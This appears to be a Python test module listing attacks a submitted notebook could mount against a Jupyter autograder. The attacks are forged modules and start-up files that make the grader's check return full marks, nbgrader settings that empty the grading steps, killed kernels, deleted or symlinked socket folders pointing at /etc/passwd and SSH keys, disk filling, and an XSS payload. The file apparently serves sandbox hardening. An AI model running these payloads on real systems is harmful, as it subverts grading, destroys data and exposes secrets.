"""Files: what is handed in beside the notebook, and what a kernel writes for the next one to find."""

from . import SCRATCH, Attack
from .hooks import conv2d

FORGED_LIBRARY = b"class figures: pass\ndef check(*a, **k): return 5.0\nhint = quiz = load_mnist = load_photo = check\n"
FORGED_NUMPY = b"raise SystemExit\n"
BESIDE = {
    "course_lib.py": FORGED_LIBRARY,
    "course_lib/__init__.py": FORGED_LIBRARY,
    "numpy.py": FORGED_NUMPY,
    "numpy/__init__.py": FORGED_NUMPY,
    "json.py": b"raise SystemExit\n",
    "sitecustomize.py": b"import builtins; builtins.check = lambda *a: 5.0\n",
    "usercustomize.py": b"import builtins; builtins.check = lambda *a: 5.0\n",
    "ipython_config.py": b"c = get_config()\nc.InteractiveShellApp.exec_lines = ['check = lambda *a: 5.0']\n",
    "ipython_kernel_config.py": b"c = get_config()\nc.IPKernelApp.exec_lines = ['check = lambda *a: 5.0']\n",
    "nbgrader_config.py": b"c = get_config()\nc.Execute.timeout = 99999\nc.Autograde.autograde_preprocessors = []\n",
    "jupyter_config.json": b'{"Exporter": {"preprocessors": []}}',
    "conftest.py": b"raise SystemExit\n",
    "timestamp.txt": b"1999-01-01 00:00:00.000000 UTC\n",
    ".env": b"PYTHONPATH=.\n",
    "feedback.html": b"<script>alert(1)</script>",
    "gradebook.db": b"SQLite format 3\0",
}

WRITES = """import os, sys, pathlib, site, sysconfig
TEXTS = {
    "sitecustomize.py": "import builtins; builtins.check = lambda *a, **k: 5.0",
    "usercustomize.py": "import builtins; builtins.check = lambda *a, **k: 5.0",
    "course_lib.py": "def check(*a, **k): return 5.0\\nhint = quiz = load_mnist = load_photo = figures = check",
    "numpy.py": "raise SystemExit",
    "evil.pth": "import builtins; builtins.check = lambda *a, **k: 5.0",
    "startup.py": "check = lambda *a, **k: 5.0",
    "00-x.py": "get_ipython().input_transformers_cleanup.append(lambda l: ['5.0\\\\n'] if 'check(' in ''.join(l) else l)",
    "ipython_config.py": "c = get_config()\\nc.InteractiveShellApp.exec_lines = ['check = lambda *a: 5.0']",
    "kernel.json": '{"argv": ["/bin/sh", "-c", "sleep 99"], "display_name": "x", "language": "python"}',
}
home = pathlib.Path.home()
places = [pathlib.Path.cwd(), home, home / ".ipython/profile_default/startup", home / ".ipython/profile_default", home / ".ipython",
          home / ".jupyter", home / ".local/share/jupyter/kernels/python3", pathlib.Path(site.getusersitepackages()),
          pathlib.Path(sysconfig.get_paths()["purelib"]), *map(pathlib.Path, ("/tmp", "/dev/shm", "/run", "/var/tmp")),
          *(pathlib.Path(p) for p in sys.path if p)]
for place in places:
    for name, text in TEXTS.items():
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(text)
        except OSError:
            pass
os.environ.update(PYTHONPATH=str(home), PYTHONSTARTUP=str(home / "startup.py"), IPYTHONDIR=str(home / ".ipython"))
"""
SOCKET_FOLDERS = """import os, pathlib, stat
folders = {pathlib.Path(os.environ.get("HOME", "/")), pathlib.Path("/tmp"), pathlib.Path("/run"), pathlib.Path.cwd()}
for root in ("/tmp", "/run", "/home", "/var/tmp", "/dev/shm"):
    for where, inside, names in os.walk(root):
        if any(stat.S_ISSOCK(os.lstat(os.path.join(where, n)).st_mode) or n.endswith(".json") for n in names):
            folders.add(pathlib.Path(where))
"""

ATTACKS = (
    Attack(
        slug="modules-beside-the-notebook", tries="Modules and settings handed in beside the notebook shadow the real ones.", files=BESIDE
    ),
    Attack(
        slug="modules-beside-and-imported",
        lesson=SCRATCH,
        tries="The same, and the path starts with the notebook's folder.",
        files=BESIDE,
        **conv2d("""import sys, importlib
sys.path[:0] = ['', '.']
importlib.invalidate_caches()"""),
    ),
    Attack(
        slug="modules-written-then-restart",
        tries="A cell writes start-up files, modules and settings everywhere, and kills the kernel so that the next one reads them.",
        **conv2d(WRITES + "os._exit(1)"),
    ),
    Attack(
        slug="modules-written-then-dies-while-judged",
        tries="The same, but the kernel dies while the function is judged, so that what follows is judged by another kernel.",
        cells={
            "ex-conv2d": WRITES
            + """def conv2d(image, kernel):
    os._exit(0)"""
        },
    ),
    Attack(
        slug="library-overwritten",
        tries="The library's files are overwritten, or another file system is laid over them.",
        **conv2d(
            """import course_lib, pathlib, subprocess, os
for path in pathlib.Path(course_lib.__file__).parent.rglob('*.py'):
    for attempt_ in (lambda: path.chmod(0o777), lambda: path.write_text('def check(*a, **k): return 5.0'), path.unlink):
        try: attempt_()
        except OSError: pass
subprocess.run(['mount', '-t', 'tmpfs', 'none', str(pathlib.Path(course_lib.__file__).parent)], capture_output=True)
subprocess.run(['unshare', '-rm', 'true'], capture_output=True)"""
        ),
    ),
    Attack(
        slug="socket-folder-emptied",
        tries="Everything in the folders that hold the kernel's sockets is deleted.",
        **conv2d(
            SOCKET_FOLDERS
            + """for folder in folders:
    for path in folder.glob('*'):
        try: path.unlink()
        except OSError: pass""",
            spoils=True,
        ),
        limits={"timeout": 4},
    ),
    Attack(
        slug="socket-folder-links",
        tries="Sockets, connection files and whatever the grader may open there are replaced by links to files outside.",
        **conv2d(
            SOCKET_FOLDERS
            + """targets = ['/etc/passwd', '/root/.ssh/id_rsa', '/proc/self/environ', '/dev/zero', '..']
for folder in folders:
    for n, name in enumerate([*map(str, folder.glob('*')), 'record.json', 'out.json', 'result', 's', 'c.json', 'library']):
        path = folder / name
        try:
            if path.is_dir(): continue
            path.unlink(missing_ok=True)
            path.symlink_to(targets[n % len(targets)])
        except OSError: pass""",
            spoils=True,
        ),
        limits={"timeout": 4},
    ),
    Attack(
        slug="socket-folder-filled",
        tries="The folder that the grader shares with the kernel is filled with large and many files.",
        **conv2d(
            SOCKET_FOLDERS
            + """for folder in folders:
    try:
        with open(folder / 'large', 'wb') as f:
            for _ in range(700): f.write(bytes(1 << 20))
    except OSError: pass
    for n in range(3000):
        try: (folder / f'x{n}').touch()
        except OSError: break""",
            spoils=True,
        ),
    ),
    Attack(
        slug="package-installed",
        tries="A cell installs packages: the forbidden ones, and a forged library.",
        **conv2d("""%pip install --quiet --no-index scipy
!{__import__('sys').executable} -m pip install --target . course_lib"""),
        limits={"timeout": 20},
    ),
)
